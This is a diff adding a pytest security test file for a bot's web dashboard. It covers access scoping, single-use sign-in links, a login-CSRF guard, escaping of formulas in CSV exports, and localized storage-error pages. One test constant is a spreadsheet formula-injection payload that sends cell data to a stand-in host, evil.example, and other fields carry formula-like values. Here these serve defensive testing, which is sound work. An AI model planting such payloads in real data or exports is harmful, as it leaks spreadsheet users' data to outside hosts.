@@ -1,0 +1,172 @@
+"""A security review of the dashboard (bot/web): what a person may not see, the sign-in's
+single use under concurrency and its login-CSRF guard, formulas in the CSV exports, and storage
+failures answered with a page in the viewer's language. Over HTTP against `maturity-bot web`'s
+app in a thread (no browser needed for these), signed in through real links."""
+
+from __future__ import annotations
+
+import csv
+import io
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import httpx
+import pytest
+
+from bot.storage import Storage, StorageError
+from bot.storage.dashboard import DashboardStore
+from bot.storage.pulses import PulseStore
+from bot.storage.web_sessions import WebSessionStore
+from bot.web.viewer import WebSession
+from tests.web_rig import serve_web, viewer_of
+
+NOW = "2026-03-02T09:00:00+00:00"
+PULSE = {
+    "model_id": "groeimodel", "cadence": "weekly", "weekday": 0, "hour": 9, "minute": 0,
+    "timezone": "Europe/Amsterdam", "next_run_at": NOW, "lang": "en",
+}  # fmt: skip
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Sales")'
+
+
+@pytest.fixture
+def storage(tmp_path: Path):
+    found = Storage(tmp_path / "bot.db")
+    yield found
+    found.close()
+
+
+@pytest.fixture
+def client_for(storage: Storage, models) -> Iterator:
+    """`client_for(viewer)`: an HTTP client on `maturity-bot web`, signed in as `viewer` (None:
+    not signed in) through a real link."""
+    with serve_web(storage, models) as web, httpx.Client(base_url=web.base_url) as client:
+
+        def signed_in(viewer=None) -> httpx.Client:
+            if viewer is not None:
+                token = WebSessionStore(storage).issue_link(viewer)
+                response = client.post("/signin", data={"token": token})
+                assert response.status_code == 303, response.text
+            return client
+
+        yield signed_in
+
+
+# ---- (3) CSV: a team name someone typed is not a formula in a spreadsheet ----------------------
+def test_the_organisation_csv_does_not_hand_a_spreadsheet_a_formula(storage, client_for):
+    pulses = PulseStore(storage)
+    pulses.save_pulse("slack", "C1", FORMULA, "T1:ULEAD", PULSE, NOW)
+    pulses.save_pulse("slack", "C2", "+1 team", "T1:ULEAD", PULSE, NOW)
+    pulses.save_pulse("slack", "C3", "@SUM(1)", "T1:ULEAD", PULSE, NOW)
+    pulses.save_pulse("slack", "C4", "-2+3", "T1:ULEAD", PULSE, NOW)
+    client = client_for(viewer_of("T1:UADMIN", workspace_admin=True))
+    response = client.get("/organisation/export.csv")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.text)))
+    names = sorted(row[0] for row in rows[1:])
+    assert names == sorted(["'" + FORMULA, "'+1 team", "'@SUM(1)", "'-2+3"])
+    for row in rows:
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
+
+
+# ---- (1) scoping by URL ------------------------------------------------------------------------
+def test_another_workspaces_admin_sees_no_team_page_export_or_report_of_it(storage, client_for):
+    pulses = PulseStore(storage)
+    pulses.save_pulse("slack", "C1", "Alpha", "T1:ULEAD", PULSE, NOW)
+    team_id = pulses.pulse("slack", "C1").team_id
+    outsider = client_for(viewer_of("T2:UADMIN", workspace_admin=True))
+    for path in (
+        f"/teams/{team_id}",
+        f"/teams/{team_id}/export.csv",
+        f"/teams/{team_id}/export.json",
+        f"/report?team={team_id}",
+        f"/report.pdf?team={team_id}",
+    ):
+        response = outsider.get(path)
+        assert response.status_code == 404, path
+        assert "Alpha" not in response.text, path
+    assert "Alpha" not in outsider.get("/organisation/export.json").text
+    assert "Alpha" not in outsider.get("/teams").text
+
+
+# ---- (2) sign-in ---------------------------------------------------------------------------------
+@pytest.fixture
+def sessions(database_target):
+    found = Storage(database_target)
+    yield WebSessionStore(found)
+    found.close()
+
+
+def test_two_tabs_redeeming_one_link_at_once_get_one_session(sessions):
+    token = sessions.issue_link(viewer_of("T1:U1"))
+    start = threading.Barrier(8)
+    outcomes: list = []
+
+    def redeem() -> None:
+        start.wait()
+        outcomes.append(sessions.redeem_link(token, session_hours=8))
+
+    threads = [threading.Thread(target=redeem) for _ in range(8)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    won = [o for o in outcomes if isinstance(o, WebSession)]
+    assert len(outcomes) == 8
+    assert len(won) == 1
+    assert {getattr(o, "state", None) for o in outcomes if o not in won} == {"used"}
+    rows = sessions.connection._rows("select count(*) as n from web_sessions")
+    assert rows[0]["n"] == 1
+
+
+@pytest.mark.parametrize("site", ["cross-site", "same-site"])
+def test_another_site_cannot_sign_a_visitor_in(storage, client_for, site):
+    """Login CSRF: a page on another site, also a sibling subdomain (same-site, not
+    same-origin), must not post someone's link and sign the visitor in as them."""
+    client = client_for()
+    token = WebSessionStore(storage).issue_link(viewer_of("T1:UATTACKER"))
+    response = client.post("/signin", data={"token": token}, headers={"Sec-Fetch-Site": site})
+    assert response.status_code == 403
+    assert not any("maturity_session" in name for name in response.cookies)
+    assert WebSessionStore(storage).link_state(token).state == "valid"
+
+
+def test_the_dashboards_own_sign_in_form_still_signs_in(storage, client_for):
+    client = client_for()
+    token = WebSessionStore(storage).issue_link(viewer_of("T1:U1"))
+    response = client.post(
+        "/signin",
+        data={"token": token},
+        headers={"Sec-Fetch-Site": "same-origin"},
+    )
+    assert response.status_code == 303
+    assert response.headers["location"] == "/"
+
+
+# ---- (4) storage errors ----------------------------------------------------------------------
+def test_a_storage_failure_is_a_page_in_the_viewers_language(storage, client_for, monkeypatch):
+    client = client_for(viewer_of("T1:U1", lang="nl"))
+
+    def broken(*_args, **_kwargs):
+        raise StorageError("database is locked")
+
+    monkeypatch.setattr(DashboardStore, "teams", broken)
+    response = client.get("/teams")
+    assert response.status_code == 503
+    assert "text/html" in response.headers["content-type"]
+    assert "Traceback" not in response.text
+    assert "database is locked" not in response.text
+    assert '<html lang="nl">' in response.text
+
+
+def test_a_storage_failure_reading_the_session_is_a_page_too(storage, client_for, monkeypatch):
+    client = client_for(viewer_of("T1:U1", lang="nl"))
+
+    def broken(*_args, **_kwargs):
+        raise StorageError("database is locked")
+
+    monkeypatch.setattr(WebSessionStore, "session", broken)
+    response = client.get("/", headers={"Accept-Language": "nl"})
+    assert response.status_code == 503
+    assert "text/html" in response.headers["content-type"]
+    assert '<html lang="nl">' in response.text
